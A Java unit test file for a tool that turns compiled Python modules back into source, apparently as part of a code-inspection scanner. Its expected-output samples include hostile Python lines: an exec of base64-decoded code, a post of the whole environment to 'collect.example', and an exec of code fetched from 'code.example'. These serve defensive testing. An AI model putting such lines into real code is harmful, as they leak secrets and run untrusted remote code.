package cordon.inspect.bytecode;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Compiled modules as source. {@code compiled.txt} has four short modules as six releases of the
 * interpreter compiled them.
 */
class CompiledModuleTest {
  record Sample(String name, String release, byte[] file) {}

  static List<Sample> samples() throws IOException {
    try (InputStream in = CompiledModuleTest.class.getResourceAsStream("compiled.txt")) {
      return new String(in.readAllBytes(), StandardCharsets.US_ASCII)
          .lines()
          .map(line -> line.split(" "))
          .map(part -> new Sample(part[0], part[1], Base64.getDecoder().decode(part[2])))
          .toList();
    }
  }

  private static List<String> expected(String name) {
    return switch (name) {
      case "decoded" -> List.of("import base64", "exec(base64.b64decode('aW1w");
      case "sends" ->
          List.of(
              "requests.post('https://collect.example/in', json=dict(os.environ))",
              "import requests");
      case "fetches" ->
          List.of(
              "from urllib import request as r",
              "exec(r.urlopen('https://code.example/x').read())",
              "print(e)");
      default ->
          List.of(
              "import os.path",
              "class Store(dict):\n __module__ = __name__",
              " def __init__(self, name, *more, size=LIMIT, **rest):",
              "super().__init__(rest)",
              ".append(each.strip())",
              " def load(path, encoding='utf-8'):\n",
              "source = open(path, encoding=encoding)",
              "for key, value in found.items():",
              "(key in ('a', 'b'))",
              "(yield (str(key) + '=' + str(",
              "[1:2]",
              "load = staticmethod(load)",
              "for k, v in ",
              "async def later(x):",
              "def count():\n global table\n",
              "del table[first]",
              "'\\u00e9'",
              "others.pop()");
    };
  }

  @TestFactory
  List<DynamicTest> everyReleaseGivesTheSource() throws IOException {
    List<DynamicTest> tests = new ArrayList<>();
    for (Sample sample : samples()) {
      tests.add(
          DynamicTest.dynamicTest(
              sample.name() + " of " + sample.release(),
              () -> {
                CompiledModule module = CompiledModule.of(sample.file());
                assertThat(module.doubts()).isEmpty();
                assertThat(module.source()).contains(expected(sample.name()));
              }));
    }
    assertThat(tests).hasSize(24);
    return tests;
  }

  @ParameterizedTest
  @ValueSource(ints = {11, 12, 13, 14})
  void whatIsPutTogetherByHandIsReadToo(int minor) {
    CompiledModule module = CompiledModule.of(Assembly.running(minor, "echo 'inert'").file());
    assertThat(module.source()).isEqualTo("import os\nos.system('echo \\'inert\\'')\n");
    assertThat(module.doubts()).isEmpty();
  }

  @TestFactory
  List<DynamicTest> withoutItsHeaderItsReleaseIsTold() throws IOException {
    return samples().stream()
        .map(sample ->
            DynamicTest.dynamicTest(
                sample.name() + " of " + sample.release(),
                () ->
                    assertThat(
                            CompiledModule.ofMarshalled(
                                    Arrays.copyOfRange(sample.file(), 16, sample.file().length))
                                .orElseThrow()
                                .source())
                        .contains(expected(sample.name()))))
        .toList();
  }

  @Test
  void otherReleasesAndBrokenFilesAreDoubted() {
    byte[] file = Assembly.running(12, "echo inert").file();
    byte[] other = file.clone();
    other[0] = 77;
    assertThat(CompiledModule.of(other))
        .isEqualTo(
            new CompiledModule("", List.of("it is compiled Python, whose source is not there")));
    for (int length = 17; length < file.length; length++) {
      assertThat(CompiledModule.of(Arrays.copyOf(file, length)).doubts()).isNotEmpty();
    }
    assertThat(CompiledModule.of(Arrays.copyOf(file, file.length + 1)).doubts()).isNotEmpty();
    assertThat(CompiledModule.is("import os  # no module".getBytes(StandardCharsets.UTF_8)))
        .isFalse();
  }

  @Test
  void anInstructionThatNobodyKnowsLeavesTheRestAndADoubt() {
    Assembly it = new Assembly(12);
    it.raw(200, 0, 0).with("LOAD_NAME", it.name("lead")).with("PUSH_NULL", 0);
    it.with("SWAP", 2).with("CALL", 0).with("POP_TOP", 0);
    CompiledModule module = CompiledModule.of(it.file());
    assertThat(module.source()).isEqualTo("lead()\n");
    assertThat(module.doubts())
        .containsExactly("it has an instruction that Python 3.12 does not have");
  }

  @Test
  void namesThatNoSourceCanHoldAreNoCode() {
    Assembly it = new Assembly(12);
    it.with("LOAD_NAME", it.name("a\nimport os")).with("PUSH_NULL", 0);
    it.with("SWAP", 2).with("CALL", 0).with("POP_TOP", 0);
    assertThat(CompiledModule.of(it.file()).source()).isEqualTo("_a_import_os()\n");
  }

  @Test
  void workIsInProportionToTheBytes() {
    Assembly it = new Assembly(12);
    int large = it.text("x".repeat(100_000));
    for (int i = 0; i < 20_000; i++) {
      it.with("LOAD_CONST", large).with("STORE_NAME", 0);
    }
    byte[] file = it.file();
    CompiledModule module = CompiledModule.of(file);
    assertThat(module.source().length()).isLessThan(26 * file.length + (1 << 17));
    assertThat(module.doubts()).containsExactly("it would be longer as source than is read");
  }

  @Test
  void deepNestingIsRefused() {
    byte[] deep = new byte[100_000];
    for (int i = 0; i + 1 < deep.length; i += 2) {
      deep[i] = ')';
      deep[i + 1] = 1;
    }
    Assembly it = new Assembly(12);
    it.constant(deep);
    assertThat(CompiledModule.of(it.file()).doubts()).isNotEmpty();
  }

  @Test
  void noBytesUpsetIt() throws IOException {
    long seed = 20_261_128;
    Random random = new Random(seed);
    for (Sample sample : samples()) {
      for (int round = 0; round < 60; round++) {
        byte[] bytes = sample.file().clone();
        for (int edit = 0; edit <= round % 4; edit++) {
          bytes[16 + random.nextInt(bytes.length - 16)] = (byte) random.nextInt(256);
        }
        CompiledModule module = CompiledModule.of(bytes);
        assertThat(module.source().length())
            .as("seed %d, %s of %s, round %d", seed, sample.name(), sample.release(), round)
            .isLessThan(26 * bytes.length + (1 << 17));
      }
    }
  }
}
